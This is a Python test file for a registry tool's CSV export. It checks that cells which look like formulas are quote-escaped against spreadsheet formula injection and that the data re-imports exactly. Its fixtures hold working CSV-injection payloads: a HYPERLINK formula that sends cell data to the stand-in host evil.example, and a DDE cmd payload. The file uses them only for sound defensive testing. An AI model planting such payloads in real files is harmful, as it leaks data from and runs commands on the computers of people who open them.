"""Exported template CSVs cannot run formulas in a spreadsheet, and still re-import exactly.

Issue #12, finding 8: `jiareg export` wrote `=HYPERLINK(...)` and `+cmd|...` text cells as
they were, so opening the export in a spreadsheet ran them. A text cell starting with =, +, -,
@, tab or CR now gets a leading single quote (OWASP "CSV injection"); numbers are left alone;
the template reader takes that one quote off again, so export -> import -> export is exact.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
from tests.integration.store.sample import write_folder
from typer.testing import CliRunner

from jiareg.cli import app
from jiareg.formats.cells import table_text
from jiareg.ingest import read_template
from jiareg.services.export import export_registry
from jiareg.services.imports import import_path
from jiareg.store.tables import read_tables

HOSTILE = {
    "term": '=HYPERLINK("http://evil.example/?x="&A1,"details")',
    "outcome": "+cmd|' /C calc'!A0",
}
MORE = [
    ("-2+3", "@SUM(A1:A9)"),
    ("'=already quoted", "'plain quote"),
    ("''=two quotes", "a=b, +c"),
]


def _registry(tmp_path: Path) -> str:
    folder = write_folder(tmp_path / "in")
    events = folder / "adverse_events.csv"
    with events.open("a", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["P1", "2020-03-01", HOSTILE["term"], "1", "no", "", HOSTILE["outcome"]])
        for day, (term, outcome) in enumerate(MORE, start=2):
            writer.writerow(["P1", f"2020-03-0{day}", term, "1", "no", "", outcome])
    url = f"sqlite:///{tmp_path / 'registry.db'}"
    import_path(folder, url)
    return url


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_export_quotes_formula_cells(tmp_path: Path) -> None:
    url = _registry(tmp_path)
    result = CliRunner().invoke(app, ["export", str(tmp_path / "out"), "--db", url])
    assert result.exit_code == 0, result.output
    cells = _cells(tmp_path / "out" / "adverse_events.csv")
    assert "'" + HOSTILE["term"] in cells and "'" + HOSTILE["outcome"] in cells
    assert {"'-2+3", "'@SUM(A1:A9)", "a=b, +c", "'plain quote"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    deidentified = tmp_path / "deid"
    export_registry(url, deidentified, deidentify=True)
    assert "'" + HOSTILE["term"] in _cells(deidentified / "adverse_events.csv")


def test_a_quoted_export_re_imports_to_the_same_registry(tmp_path: Path) -> None:
    url = _registry(tmp_path)
    first = tmp_path / "first"
    export_registry(url, first)
    again = f"sqlite:///{tmp_path / 'again.db'}"
    import_path(first, again)
    assert read_tables(again) == read_tables(url)
    second = tmp_path / "second"
    export_registry(again, second)
    for path in sorted(first.iterdir()):
        assert (second / path.name).read_bytes() == path.read_bytes(), path.name
    events = read_tables(again)["adverse_events"].to_pylist()
    terms = {e["term"] for e in events}  # the first import took one quote off each
    assert terms >= {HOSTILE["term"], "-2+3", "=already quoted", "'=two quotes"}


def test_only_text_cells_are_quoted_and_the_reader_strips_one_quote(tmp_path: Path) -> None:
    table = pa.table({"n": pa.array([-1.5, 2.0]), "t": pa.array(["-1.5", "'x"])})
    assert table_text(table, spreadsheet_safe=True) == [["-1.5", "'-1.5"], ["2", "'x"]]
    folder = write_folder(tmp_path / "in")
    text = (folder / "adverse_events.csv").read_text(encoding="utf-8")
    (folder / "adverse_events.csv").write_text(
        text + "P1,2020-03-01,'=x,1,no,,'ok\nP1,2020-03-02,'''+y,1,no,,'@z\n", encoding="utf-8"
    )
    events = read_template(folder)["adverse_events"].to_pylist()
    got = {(e["term"], e["outcome"]) for e in events if str(e["onset_date"]) >= "2020-03-01"}
    assert {("=x", "'ok"), ("''+y", "@z")} <= got
